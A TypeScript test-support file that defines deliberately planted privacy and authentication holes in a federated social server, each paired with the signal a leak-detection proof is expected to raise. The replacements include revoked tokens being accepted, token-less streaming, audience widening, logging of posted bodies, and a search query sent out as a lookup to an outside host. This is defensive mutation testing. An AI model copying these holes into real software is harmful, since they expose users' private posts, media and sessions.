import type { Leak } from './evidence.ts';

/** A leak planted on purpose: what stands in a file, exactly once, is replaced; and how the proof must notice. */
export interface Control {
  readonly name: string;
  readonly file: string;
  readonly text: string;
  readonly replacement: string;
  readonly noticed: { readonly kind: Leak['kind']; readonly what?: RegExp; readonly detail?: RegExp };
}

export const controls: readonly Control[] = [
  {
    name: 'activities are shown to everybody though their objects are not',
    file: 'federation/read/things.ts',
    text: "return reader.kind === 'colleague' ? readInside(parts, id, reader.actorId)",
    replacement:
      "return reader.kind === 'colleague' || id.includes('/activities/') ? readInside(parts, id, Reflect.get(reader, 'actorId'))",
    noticed: { kind: 'canary', what: /GET \/activities/, detail: /^internal note/ },
  },
  {
    name: 'answers go out without a receipt',
    file: 'federation/read/answer.ts',
    text: "await parts.commits.commit([{ change: 'receipt.add', receipt }]);",
    replacement: 'void receipt;',
    noticed: { kind: 'no-receipt', what: /GET/ },
  },
  {
    name: 'an answer in an internal thread is heard as far as its client asks',
    file: 'federation/outbox/inherit.ts',
    text: 'const everyColleague = heard.has(addresses.internalZone);',
    replacement: 'const everyColleague = heard.has(addresses.internalZone);\n  if (everyColleague) return false;',
    noticed: { kind: 'canary', what: /^delivery/, detail: /^internal/ },
  },
  {
    name: 'an error tells in base64 what it does not show',
    file: 'federation/read/things.ts',
    text: 'if (!release) return absent;',
    replacement: `const hidden = release ? undefined : await parts.store.getObject(id);
  if (hidden) return { kind: 'invalid', reason: Buffer.from(JSON.stringify(hidden)).toString('base64') };
  if (!release) return absent;`,
    noticed: { kind: 'canary', detail: /base64/ },
  },
  {
    name: 'any server that signs is shown what one was given',
    file: 'federation/read/things.ts',
    text: 'return given ? addressed : undefined;',
    replacement: "return given || reader.host !== '' ? addressed : undefined;",
    noticed: { kind: 'canary', what: /signed by bob/, detail: /^addressed/ },
  },
  {
    name: 'properties leave that no policy knows',
    file: 'policies/egress/admit.ts',
    text: 'return expectedInside.has(key) ? undefined : this.#drop(step(pointer, key));',
    replacement: 'return value;',
    noticed: { kind: 'canary', detail: /unknown property/ },
  },
  {
    name: 'revoked tokens still work',
    file: 'server/auth/tokens.ts',
    text: "if (record.revokedAt !== undefined) return refused('this token was revoked",
    replacement: "if (record.revokedAt === 0) return refused('this token was revoked",
    noticed: { kind: 'canary', what: /as a revoked token/ },
  },
  {
    name: 'pictures keep their metadata',
    file: 'server/media/encoding/picture.ts',
    text: 'await picture.toFormat(format, options).toBuffer(',
    replacement: 'await picture.keepMetadata().toFormat(format, options).toBuffer(',
    noticed: { kind: 'canary', what: /GET \/media/, detail: /picture\./ },
  },
  {
    name: 'files are shown to whoever knows their address',
    file: 'federation/read/media.ts',
    text: "return rendition === 'original' ? readReleased(parts, file, reader) : absent;",
    replacement:
      "return { kind: 'inside', bytes: (await parts.library.bytesOf(id, rendition))!, mediaType: file.original.mediaType };",
    noticed: { kind: 'bytes', what: /GET \/media/ },
  },
  {
    name: 'a boost is heard further than the boosted',
    file: 'federation/outbox/inherit.ts',
    text: "new Set(['create', 'update',",
    replacement: "new Set(['announce', 'create', 'update',",
    noticed: { kind: 'id', what: /Announce/, detail: /an internal/ },
  },
  {
    name: 'internal posts are delivered to followers',
    file: 'federation/outbox/audience.ts',
    text: "followers: named.some((iri) => addresses.actor(addresses.followersOf(iri) ?? '') === author),",
    replacement: 'followers: true,',
    noticed: { kind: 'canary', what: /delivery of Create/, detail: /^internal note\.content/ },
  },
  {
    name: 'followers hear of the deletion of an internal post',
    file: 'federation/outbox/default-audience.ts',
    text: 'copyAudience(renamed ?? stored ?? draft, draft, renamed !== undefined);',
    replacement: `copyAudience(renamed ?? stored ?? draft, draft, renamed !== undefined);
  if (draft.type === 'Delete') draft['cc'] = [known.addresses.followers(account.name)];`,
    noticed: { kind: 'id', what: /Delete/ },
  },
  {
    name: 'what is searched for becomes a name that is looked up',
    file: 'server/mastodon/routes/search.ts',
    text: 'const isAddress =',
    replacement:
      "if (query !== '') void fetch('http://' + query + '.example/').catch(() => undefined);\n  const isAddress =",
    noticed: { kind: 'canary', what: /look-up/, detail: /search/ },
  },
  {
    name: 'the count of a collection includes what is not shown',
    file: 'federation/apex/store.ts',
    text: 'return this.#ports.activities.count(collection, currentReading()?.releasedTo);',
    replacement: 'return this.#ports.activities.count(collection);',
    noticed: { kind: 'interference', what: /outbox/ },
  },
  {
    name: 'what is for partners is shown to any server that signs',
    file: 'federation/read/things.ts',
    text: '.filter((zone) => isPartner(zone, asker))',
    replacement: ".filter((zone) => isPartner(zone, asker) || asker.host !== '')",
    noticed: { kind: 'canary', what: /signed by (ada|bob)/, detail: /^partner/ },
  },
  {
    name: 'what was taken back is still shown',
    file: 'federation/recall/take-back.ts',
    text: `...(await withhold(parts, { thing, actor })),
    { change: 'release.put', release: sent },
    { change: 'release.put', release: parts.gate.seal(tombstone) },`,
    replacement: "{ change: 'release.put', release: sent },",
    noticed: { kind: 'canary', detail: /taken back/ },
  },
  {
    name: 'colleagues read messages between others',
    file: 'federation/read/reader.ts',
    text: 'named.includes(actorId) ||',
    replacement: 'named.length > 0 ||',
    noticed: { kind: 'canary', what: /as gwen/, detail: /^private/ },
  },
  {
    name: 'streams ask for no token',
    file: 'server/mastodon/streaming/wisher.ts',
    text: "if (verified.kind === 'refused' || !account) return refused(401, 'Invalid access token');",
    replacement: `const anybody = account ?? (await store.accounts.byName('gwen'));
  if (!anybody) return refused(401, 'Invalid access token');
  if (verified.kind === 'refused' || !account)
    return { kind: 'wisher', account: { ...anybody, jti: 'none' }, scope: 'read' };`,
    noticed: { kind: 'canary', what: /a stream .* as (anonymous|a garbage token|a revoked token)/ },
  },
  {
    name: 'streams go on when their token is revoked',
    file: 'server/mastodon/streaming/hub.ts',
    text: 'if (subscriber.jti === about) this.#end(subscriber);',
    replacement: 'if (subscriber.jti === about) subscriber.beat();',
    noticed: { kind: 'open-stream' },
  },
  {
    name: 'push messages say what was written, to the app alone',
    file: 'server/mastodon/push/sending.ts',
    text: 'const notice = { kind, id: notification.id, language: await languageOf(account) };',
    replacement: `const said = (notification['status'] as { content?: string } | undefined)?.content;
  const notice = { kind: (said ?? kind) as PushKind, id: notification.id, language: await languageOf(account) };`,
    noticed: { kind: 'canary', what: /push message, decrypted/, detail: /^internal/ },
  },
  {
    name: 'the log repeats what people post',
    file: 'server/http/body.ts',
    text: 'chunks.push(chunk);',
    replacement: 'chunks.push(chunk);\n      process.stdout.write(chunk);',
    noticed: { kind: 'canary', what: /the log/ },
  },
  {
    name: 'the ledger holds what it is about',
    file: 'server/ledger/entry.ts',
    text: 'return receiptEntry(change.release);',
    replacement: `return encode({
        ...(JSON.parse(Buffer.from(receiptEntry(change.release)).toString('utf8')) as Record<string, Member>),
        what: Buffer.from(change.release.body).toString('utf8'),
      });`,
    noticed: { kind: 'canary', what: /the exported ledger/ },
  },
  {
    name: 'grants for files leave in the addresses of files',
    file: 'federation/outbox/render.ts',
    text: "if (typeof value === 'string') return withoutGrants(value);",
    replacement: "if (typeof value === 'string') return withoutGrants('') + value;",
    noticed: { kind: 'id', detail: /an internal picture/ },
  },
];
